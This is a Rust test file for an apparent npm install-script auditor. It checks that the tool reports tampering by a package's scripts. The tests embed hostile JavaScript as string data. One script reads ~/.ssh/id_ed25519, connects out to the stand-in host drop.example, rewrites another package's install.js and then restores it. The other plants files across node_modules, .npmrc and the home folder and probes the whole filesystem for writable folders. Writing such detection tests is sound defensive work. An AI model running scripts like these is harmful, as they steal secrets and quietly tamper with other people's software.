//! What a script does to trees and leaves behind in ways that no name shows: by a second name of a
//! file, by another package's script that is put back as it was, beside all that is listed.

use super::tree::{install, nothing_blames_the_victim, told};

#[test]
fn whoever_did_it_by_another_name_or_another_script_is_named() {
    // The file's second name lies in the script's own folder. The victim's script is evil's while
    // it runs, and its own again when it has run.
    let script = "const victim = 'node_modules/@acme/victim', own = 'node_modules/@acme/evil';\n\
        fs.linkSync(`${victim}/index.js`, `${own}/second`);\n\
        fs.appendFileSync(`${own}/second`, '// evil');\n\
        fs.unlinkSync(`${own}/second`);\n\
        const genuine = fs.readFileSync(`${victim}/install.js`);\n\
        fs.writeFileSync(`${victim}/install.js`, `\n\
          const fs = require('fs');\n\
          fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519');\n\
          fs.appendFileSync('lib/util.js', '// evil');\n\
          require('net').connect(443, 'drop.example').on('error', () => {}).unref();\n\
          fs.writeFileSync('install.js', ${JSON.stringify(String(genuine))});\n\
        `);\n";
    let Some(outcome) = install("escape::further::blame", script, &[], &[]) else { return };
    told(&outcome, "tree-mutated-by-script", "warning", &["preinstall script", "victim/index.js and 1 more"]);
    told(&outcome, "secret-read", "warning", &["~/.ssh/id_ed25519"]);
    nothing_blames_the_victim(&outcome);
}

#[test]
fn whatever_a_script_leaves_anywhere_is_told() {
    let script = "const home = process.env.HOME, own = 'node_modules/@acme/evil';\n\
        const put = (path) => {\n\
          fs.mkdirSync(require('path').dirname(path), { recursive: true });\n\
          fs.writeFileSync(path, 'evil');\n\
        };\n\
        put('node_modules/newcomer/index.js');\n\
        put('node_modules/@new/comer/index.js');\n\
        put(`${home}/.node_modules/left/index.js`);\n\
        put('node_modules/.hooks/postinstall');\n\
        fs.appendFileSync('.npmrc', '# evil');\n\
        fs.symlinkSync('/var/tmp', 'node_modules/@acme/victim/linked');\n\
        const taken = [];\n\
        const seek = (folder, depth) => {\n\
          if (depth > 4 || /^\\/(proc|sys|project|home|tmp|var\\/tmp|dev\\/shm)(\\/|$)/.test(folder)) return;\n\
          try { fs.writeFileSync(`${folder}/left-there`, 'x'); taken.push(folder); } catch {}\n\
          let entries = [];\n\
          try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch {}\n\
          entries.forEach((it) => it.isDirectory() && seek(`${folder}/${it.name}`.replace('//', '/'), depth + 1));\n\
        };\n\
        seek('/', 0);\n\
        fs.writeFileSync('/tmp/taken', taken.join('\\n'));\n\
        console.log('TAKEN', JSON.stringify(taken));\n";
    let Some(outcome) = install("escape::further::anywhere", script, &[], &[]) else { return };
    let run = &outcome.report["runs"].as_array().unwrap()[0];
    let output = run["output"]["stdout_tail"].as_str().unwrap_or_default();
    let taken = output.lines().find_map(|line| line.strip_prefix("TAKEN ")).unwrap_or_default();
    let taken: Vec<String> = serde_json::from_str(taken).unwrap_or_else(|_| panic!("{output}"));
    let files = run["files"].as_array().unwrap();
    for path in taken.iter().map(|folder| format!("{}/left-there", folder.trim_end_matches('/'))) {
        let told = files.iter().find(|file| file["path"] == path.as_str());
        assert!(told.is_some_and(|file| file["process"].is_u64()), "{path}: {files:#?}");
    }
    for path in [
        "/project/node_modules/newcomer/index.js",
        "/project/node_modules/@new/comer/index.js",
        "/project/node_modules/.hooks/postinstall",
        "/project/.npmrc",
        "/home/npm/.node_modules/left/index.js",
    ] {
        let told = files.iter().find(|file| file["path"] == path);
        assert!(told.is_some_and(|file| file["process"].is_u64()), "{path}: {files:#?}");
    }
    // Those in the project are told together, three of them by their names.
    told(&outcome, "write-outside-package", "warning", &["/project/.npmrc (changed)", "and 1 more"]);
    told(&outcome, "write-outside-package", "warning", &["outside the project", "left"]);
    nothing_blames_the_victim(&outcome);
}
